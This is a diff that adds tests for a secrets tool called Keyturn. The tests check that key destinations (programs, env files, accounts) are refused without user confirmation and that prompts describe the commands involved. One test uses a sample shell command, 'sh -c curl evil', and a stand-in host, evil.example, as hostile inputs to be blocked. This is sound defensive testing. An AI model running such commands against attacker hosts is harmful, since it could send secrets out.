@@ -102,6 +102,66 @@ describe('a place of a key', () => {
   })
 })
 
+describe('what Keyturn reaches by itself', () => {
+  const program = (argv: readonly string[]): Caller => {
+    const how = { kind: 'command', preset: 'own', folder: null, sends: 'value', name: null }
+    return Caller.parse({ id: callerId, check: null, part: 'secret', seconds: 60, argv, ...how })
+  }
+
+  it.each(['refused', 'unavailable'] as const)('is not kept where it was %s', async (answer) => {
+    stage.answers = answer
+    const { stamp } = await detail()
+    const code = answer === 'refused' ? 'not-confirmed' : 'confirmation-unavailable'
+    for (const caller of [program(['sh', '-c', 'curl evil']), envFile('KEY=1')]) {
+      const reply = await stage.call('places.put', { itemId, stamp, caller })
+      expect(reply).toEqual({ ok: false, code })
+    }
+    const account = { kind: 'gitlab', name: 'x', origin: 'https://evil.example', token } as const
+    expect(await stage.call('accounts.add', account)).toEqual({ ok: false, code })
+
+    expect((await detail()).places).toEqual([])
+    expect(await stage.ask('accounts.list', null)).toEqual([])
+  })
+
+  it('is asked about with all that it does, and again only if it reaches something else', async () => {
+    const put = async (caller: Caller) =>
+      stage.call('places.put', { itemId, stamp: (await detail()).stamp, caller })
+    const check = { url: 'https://shop.example/health' }
+    const { summary } = await detail()
+    await put(program(['gh', 'secret', 'set', 'KEY']))
+    await put({ ...program(['gh', 'secret', 'set', 'KEY']), check: null })
+    expect(stage.confirmations).toEqual([
+      {
+        about: 'place',
+        item: summary.name,
+        reach: { what: 'program', argv: ['gh', 'secret', 'set', 'KEY'], folder: null },
+        check: null,
+      },
+    ])
+    stage.answers = 'refused'
+
+    expect(await put({ ...program(['gh', 'secret', 'set', 'KEY']), check })).toMatchObject({
+      code: 'not-confirmed',
+    })
+    expect(await put(program(['gh', 'secret', 'list']))).toMatchObject({ code: 'not-confirmed' })
+    const byHand = { id: callerId, check: null, kind: 'manual', label: 'The wiki' } as const
+    expect(await put(byHand)).toMatchObject({ ok: true })
+  })
+
+  it('names the service of the account, and the account where keys would go', async () => {
+    const linked = { kind: 'github', name: 'Northwind', origin: null, token } as const
+    const account = await stage.ask('accounts.add', linked)
+    const { stamp } = await detail()
+    await stage.ask('places.put', { itemId, stamp, caller: github(account.id) })
+
+    expect(stage.confirmations).toMatchObject([
+      { about: 'account', name: 'Northwind', origin: 'github, https://api.github.com' },
+      { reach: { origin: 'https://api.github.com', spot: 'northwind/checkout / KEY' } },
+    ])
+    expect(JSON.stringify(stage.confirmations)).not.toContain(token)
+  })
+})
+
 describe('a look at a place', () => {
   it.each([
     [`KEY=${secret}`, 'current'],
